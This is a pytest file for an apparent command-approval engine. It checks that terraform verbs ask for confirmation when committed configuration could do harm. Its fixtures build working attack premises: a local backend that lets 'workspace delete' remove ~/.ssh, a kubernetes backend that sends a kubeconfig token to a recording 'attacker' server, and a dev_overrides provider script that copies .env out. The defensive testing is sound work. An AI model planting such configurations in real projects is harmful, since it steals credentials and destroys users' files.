"""Review GU1, GU2, GU3: what a terraform verb does beyond its words. GU1: a committed
`backend "local" { workspace_dir = "<HOME>" }` makes every folder of HOME a workspace,
and an approved `terraform workspace delete -force .ssh` removed `~/.ssh`. GU2: an
approved `terraform output` (`init`, `state list`, `workspace list` …) sets up a committed
`backend "kubernetes"` that sends `~/.kube/config`'s token to the host it names. GU3:
with HOME in the workspace, `~/.terraform.d/*.tfrc`'s `dev_overrides` ran a workspace
binary under an approved `terraform graph`. The real terraform shows the premises where
installed; the engine's verdicts are checked always."""

from __future__ import annotations

import http.server
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest
from realrun import canary_workspace, decide, git_out, program_printed

from policylang import Verdict

TOKEN = "canary-GU-kube-41"
ENV_CANARY = "canary-GU-env-42"
TERRAFORM = shutil.which("terraform")
needs_terraform = pytest.mark.skipif(TERRAFORM is None, reason="terraform is not installed")

KUBECONFIG = f"""apiVersion: v1
kind: Config
clusters:
- cluster: {{server: "https://kube.internal.example:6443"}}
  name: prod
users:
- name: admin
  user: {{token: {TOKEN}}}
contexts:
- context: {{cluster: prod, user: admin}}
  name: prod
current-context: prod
"""
# the verbs an approval covered that set up the backend (GU2's real run)
BACKEND_VERBS = (
    "terraform init", "terraform output", "terraform state list", "terraform state pull",
    "terraform workspace list", "terraform workspace new w", "terraform workspace select w",
    "terraform providers", "terraform force-unlock -force x", "tofu output",
    "terraform -chdir=. output",
)  # fmt: skip


def _workspace(tmp_path: Path, files: dict[str, str]) -> tuple[Path, dict[str, str]]:
    workspace, env = canary_workspace(
        tmp_path, f"SECRET={ENV_CANARY}\n", files,
        home={".ssh/id_rsa": "KEY\n", ".kube/config": KUBECONFIG},
    )  # fmt: skip
    git_out(workspace, "init", "-q")
    return workspace, env


def _asks_unoffered(line: str, workspace: Path, env: dict[str, str], approval: str) -> None:
    """`line` asks with no approval offered, and asks under `approval` too."""
    decision = decide(line, workspace, env)
    assert decision.verdict is Verdict.ASK, decision.explain()
    assert decision.suggested_rule is None, (line, decision.suggested_rule)
    approved = decide(line, workspace, env, approval)
    assert approved.verdict is Verdict.ASK, approved.explain()


def _offered(line: str, workspace: Path, env: dict[str, str]) -> None:
    """`line` is offered an approval, which then allows it."""
    decision = decide(line, workspace, env)
    assert decision.suggested_rule is not None, decision.explain()
    approved = decide(line, workspace, env, decision.suggested_rule)
    assert approved.verdict is Verdict.ALLOW, approved.explain()


class _Recorder(http.server.BaseHTTPRequestHandler):
    """The attacker's host: records the Authorization header of every request."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.seen.append(str(self.headers.get("Authorization")))
        body = b'{"kind":"SecretList","apiVersion":"v1","metadata":{},"items":[]}'
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_PUT = do_GET

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[tuple[str, list[str]]]:
    server = http.server.HTTPServer(("127.0.0.1", 0), _Recorder)
    seen: ClassVar[list[str]] = []
    _Recorder.seen = seen
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


def _kubernetes_backend(host: str) -> str:
    return (
        'terraform {\n  backend "kubernetes" {\n    secret_suffix = "state"\n'
        f'    config_path   = "~/.kube/config"\n    host          = "{host}"\n  }}\n}}\n'
    )


@needs_terraform
def test_gu1_workspace_delete_removes_a_home_folder_and_always_asks(tmp_path: Path) -> None:
    home = tmp_path / "home"
    main = f'terraform {{\n  backend "local" {{\n    workspace_dir = "{home}"\n  }}\n}}\n'
    workspace, env = _workspace(tmp_path, {"main.tf": main})
    assert TERRAFORM is not None
    program_printed([TERRAFORM, "init", "-input=false"], workspace, env)
    program_printed([TERRAFORM, "workspace", "delete", "-force", ".ssh"], workspace, env)
    assert not (home / ".ssh").exists()  # (the premise: `~/.ssh` is gone)
    for line in ("terraform workspace delete -force .ssh", "terraform workspace delete .ssh",
                 "tofu -chdir=. workspace delete x", "terraform workspace new pwn",
                 "terraform init"):  # fmt: skip
        _asks_unoffered(line, workspace, env, " ".join(line.split()[:3]))


def test_gu1_workspace_delete_asks_without_a_backend(tmp_path: Path) -> None:
    workspace, env = _workspace(tmp_path, {"main.tf": 'output "o" { value = 1 }\n'})
    _asks_unoffered("terraform workspace delete w", workspace, env, "terraform workspace")
    _offered("terraform workspace show", workspace, env)
    _offered("terraform workspace list", workspace, env)


@needs_terraform
def test_gu2_a_committed_backend_sends_the_kube_token_and_asks(
    tmp_path: Path, attacker: tuple[str, list[str]]
) -> None:
    host, seen = attacker
    workspace, env = _workspace(tmp_path, {"main.tf": _kubernetes_backend(host)})
    assert TERRAFORM is not None
    program_printed([TERRAFORM, "init", "-input=false"], workspace, env)
    assert f"Bearer {TOKEN}" in seen  # (the premise: the token went to the backend's host)
    for line in BACKEND_VERBS:
        _asks_unoffered(line, workspace, env, line)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("main.tf", 'terraform {\n  backend "s3" {\n    bucket = "b"\n  }\n}\n'),
        ("main.tf", "terraform {\n  backend /* x */ s3 {\n  }\n}\n"),
        ("backend.tf", 'terraform {\n  cloud {\n    organization = "o"\n  }\n}\n'),
        ("main.tf.json", '{"terraform": {"back\\u0065nd": {"s3": {}}}}'),
        ("main.tf.json", '{"terraform": [{"cloud": {}}]}'),
        ("main.tf.json", "{not json"),
        ("main.tofu", 'terraform { backend "http" { address = "http://x" } }\n'),
        ("prod.tfbackend", 'bucket = "b"\n'),
        (".terraform/terraform.tfstate", '{"backend": {"type": "s3"}}'),
    ],
)
def test_gu2_backend_declarations_ask(tmp_path: Path, name: str, text: str) -> None:
    workspace, env = _workspace(tmp_path, {name: text})
    for line in BACKEND_VERBS:
        _asks_unoffered(line, workspace, env, line)


def test_gu2_backend_config_on_the_line_asks(tmp_path: Path) -> None:
    workspace, env = _workspace(tmp_path, {"main.tf": 'output "o" { value = 1 }\n'})
    _asks_unoffered("terraform init -backend-config=x.hcl", workspace, env, "terraform init")


def test_gu2_a_chdir_folder_with_a_backend_asks(tmp_path: Path) -> None:
    workspace, env = _workspace(tmp_path, {"infra/main.tf": _kubernetes_backend("http://x")})
    decision = decide("terraform -chdir=infra output", workspace, env, "terraform")
    assert decision.verdict is Verdict.ASK, decision.explain()
    _offered("terraform output", workspace, env)


def test_gu2_configurations_without_a_backend_keep_their_offers(tmp_path: Path) -> None:
    main = (
        'resource "aws_lb" "backend" {\n  name = "backend-lb"\n}\n'
        'variable "backend" {}\noutput "o" { value = var.backend }\n'
        "# the backend pool, on the cloud\n"
        'locals { backend = "x"\n  cloud = "y" }\n'
    )
    workspace, env = _workspace(tmp_path, {"main.tf": main})
    for line in (*BACKEND_VERBS[:-2], "terraform version", "terraform fmt"):
        _offered(line, workspace, env)


def test_gu2_verbs_that_set_up_no_backend_keep_their_offers(tmp_path: Path) -> None:
    workspace, env = _workspace(tmp_path, {"main.tf": _kubernetes_backend("http://x")})
    for line in ("terraform version", "terraform fmt", "terraform get", "terraform modules",
                 "terraform workspace show"):  # fmt: skip
        _offered(line, workspace, env)


def _dev_override_workspace(tmp_path: Path, config: str) -> tuple[Path, dict[str, str], Path]:
    """GU3's workspace: HOME inside it, a CLI configuration at `config` (under HOME) that
    overrides hashicorp/null with a workspace binary copying `.env` to a file."""
    main = (
        'terraform {\n  required_providers {\n    null = { source = "hashicorp/null" }\n'
        '  }\n}\nresource "null_resource" "x" {}\n'
    )
    workspace, env = _workspace(tmp_path, {"main.tf": main})
    leaked = tmp_path / "LEAKED"
    binary = workspace / "bin" / "terraform-provider-null"
    binary.parent.mkdir()
    binary.write_text(f'#!/bin/sh\ncat "$PWD/.env" > {leaked}\nexit 1\n')
    binary.chmod(0o755)
    home = workspace / "h"
    (home / config).parent.mkdir(parents=True)
    (home / config).write_text(
        f'provider_installation {{\n  dev_overrides {{ "hashicorp/null" = "{binary.parent}" }}'
        "\n  direct {}\n}\n"
    )
    return workspace, {**env, "HOME": str(home)}, leaked


@needs_terraform
def test_gu3_a_tfrc_of_terraform_d_in_the_workspace_runs_a_provider(tmp_path: Path) -> None:
    workspace, env, leaked = _dev_override_workspace(tmp_path, ".terraform.d/evil.tfrc")
    assert TERRAFORM is not None
    program_printed([TERRAFORM, "graph"], workspace, env)
    assert ENV_CANARY in leaked.read_text()  # (the premise: the override ran)
    for line in ("terraform graph", "terraform show", "terraform init", "tofu graph"):
        _asks_unoffered(line, workspace, env, line)


@pytest.mark.parametrize(
    "config",
    [".terraform.d/plugins/x", ".config/opentofu/tofurc", ".local/share/terraform/plugins/x"],
)
def test_gu3_other_configuration_folders_in_the_workspace_ask(
    tmp_path: Path, config: str
) -> None:
    workspace, env, _leaked = _dev_override_workspace(tmp_path, config)
    _asks_unoffered("terraform graph", workspace, env, "terraform graph")


def test_gu3_what_terraform_writes_in_terraform_d_keeps_the_offer(tmp_path: Path) -> None:
    workspace, env, _leaked = _dev_override_workspace(tmp_path, ".terraform.d/checkpoint_signature")
    _offered("terraform graph", workspace, env)
